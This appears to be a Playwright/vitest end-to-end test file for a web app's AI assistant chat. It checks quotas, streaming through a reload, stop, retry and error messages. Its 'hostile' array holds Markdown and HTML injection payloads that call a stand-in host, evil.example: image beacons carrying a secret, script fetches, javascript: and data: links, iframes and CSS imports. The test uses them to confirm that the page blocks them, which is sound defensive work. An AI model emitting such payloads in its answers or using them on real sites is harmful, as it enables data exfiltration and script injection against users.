import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join as joinPath } from 'node:path'
import { LLMock } from '@copilotkit/aimock'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { enroll, expectNoFaults, openBrowser, person, visit } from './browser/browser.ts'
import { type Site, serveSite } from './browser/serve-site.ts'
import { sharedSite } from './browser/shared-site.ts'

/** Its built-in guide answers. */
const site = sharedSite('assistant')
let browser: Browser
let withModel: Site
const mock = new LLMock({ port: 0 })
const folder = mkdtempSync(joinPath(tmpdir(), 'frontier-assistant-'))
beforeAll(async () => {
  const url = await mock.start()
  withModel = await serveSite(folder, {
    AI_PROVIDER: 'openai-compatible',
    AI_BASE_URL: `${url}/v1`,
    AI_MODEL: 'a-model',
  })
  browser = await openBrowser()
})
afterAll(async () => {
  await browser.close()
  await withModel.stop()
  await mock.stop()
  rmSync(folder, { recursive: true, force: true })
})

test('a member asks, is answered with links, has an idea analysed, and finds it all again', async () => {
  const here = await site.visit()
  const { page } = here
  await enroll(page, person('chat@journey.example'))
  await page.goto('/ai-assistant')
  await page.getByText('Starter Member').waitFor()
  await page.getByText('No conversations yet. Start a new one!').waitFor()
  await page.getByText('20 of 20 messages left today.').waitFor()
  const box = page.getByRole('textbox', { name: 'Message' })
  expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true)
  await box.fill('How long will')
  await box.press('Shift+Enter')
  await box.pressSequentially('my savings last?')
  await box.press('Enter')
  await page.getByRole('link', { name: 'How long your money lasts' }).first().waitFor()
  await page.getByText('19 of 20 messages left today.').waitFor()
  expect(await box.inputValue()).toBe('')
  expect(await page.getByRole('status').filter({ hasText: 'Answer:' }).count()).toBe(1)

  await page.getByRole('button', { name: 'New Conversation' }).click()
  await page.getByRole('textbox', { name: 'Business idea' }).fill('Meal boxes for nurses. I interviewed 12 nurses.')
  await page.getByRole('button', { name: 'Analyze Idea' }).click()
  await page.getByText('Your business idea has been analyzed and added to the chat.').first().waitFor()
  await page.getByRole('heading', { name: 'Business Idea Analysis' }).waitFor()
  await page.getByText('Viability Score:').first().waitFor()
  expect(await page.getByRole('textbox', { name: 'Business idea' }).inputValue()).toBe('')

  await page.reload()
  await page.getByRole('button', { name: /^How long will/ }).click()
  await page.getByRole('link', { name: 'How long your money lasts' }).first().waitFor()
  await page.getByRole('button', { name: /^Delete How long will/ }).click()
  await page.getByText('Conversation deleted successfully').first().waitFor()
  await page.getByRole('heading', { name: 'New Conversation' }).waitFor()
  expectNoFaults(here)
})

test('a reload in the middle shows the running answer to its end, and stop still stops it', async () => {
  // Longer than a busy machine takes to load the page anew.
  mock.onMessage(/slowly/, { content: 'word '.repeat(1200) }, { streamingProfile: { ttft: 10, tps: 25 } })
  const here = await visit(browser, withModel.url)
  const { page } = here
  await enroll(page, person('reload@journey.example'))
  await page.goto('/ai-assistant')
  await page.getByRole('textbox', { name: 'Message' }).fill('slowly please')
  await page.getByRole('button', { name: 'Send' }).click()
  await page
    .getByText(/word word/)
    .first()
    .waitFor()
  await page.reload()
  await page.getByRole('button', { name: /^slowly please/ }).click()
  await page
    .getByText(/word word/)
    .first()
    .waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await page.getByText('Stopped.').waitFor()
  await page.getByRole('button', { name: 'Try again' }).waitFor()
  expectNoFaults(here)
})

test('a failed answer says so in dull words and is tried again', async () => {
  mock.nextRequestError(401, { message: 'secret of the provider' })
  mock.onMessage(/fails first/, { content: 'And now an answer.' })
  const { page } = await visit(browser, withModel.url)
  await enroll(page, person('fails@journey.example'))
  await page.goto('/ai-assistant')
  await page.getByRole('textbox', { name: 'Message' }).fill('this fails first')
  await page.getByRole('button', { name: 'Send' }).click()
  await page.getByText('The assistant couldn’t answer right now. Please try again.').first().waitFor()
  await page.getByRole('button', { name: 'Try again' }).click()
  await page.getByText('And now an answer.').first().waitFor()
})

const hostile = [
  '![x](https://evil.example/a.png?d=secret)',
  '<img src="https://evil.example/b.png">',
  '<script>fetch("https://evil.example/c")</script>',
  '[click](javascript:fetch("https://evil.example/d"))',
  '[away](https://evil.example/e)',
  '[data](data:text/html,<script>alert(1)</script>)',
  '<iframe src="https://evil.example/f"></iframe>',
  '<https://evil.example/g>',
  '[same](//evil.example/h)',
  '[back](/\\evil.example/i)',
  '<style>@import "https://evil.example/j"</style>',
  '![ref][r]\n\n[r]: https://evil.example/k.png',
]

test('hostile Markdown asks nobody for anything and leads nowhere', async () => {
  mock.onMessage(/hostile/, { content: hostile.join('\n\n') })
  mock.onMessage(/nested/, { content: `${'> '.repeat(3000)}deep` })
  const here = await visit(browser, withModel.url)
  const { page } = here
  const away: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(withModel.url) && !request.url().startsWith('blob:')) away.push(request.url())
  })
  await enroll(page, person('hostile@journey.example'))
  await page.goto('/ai-assistant')
  const box = page.getByRole('textbox', { name: 'Message' })
  await box.fill('hostile')
  await box.press('Enter')
  await page.getByRole('button', { name: 'Copy' }).waitFor()
  const log = page.getByRole('log')
  expect(await log.locator('img, iframe, script, style').count()).toBe(0)
  expect(await log.locator('a').count()).toBe(0)
  await box.fill('nested')
  await box.press('Enter')
  await page.getByText('deep').first().waitFor()
  await page.getByRole('button', { name: 'Copy' }).nth(1).waitFor()
  expect(away).toEqual([])
  expectNoFaults(here)
})
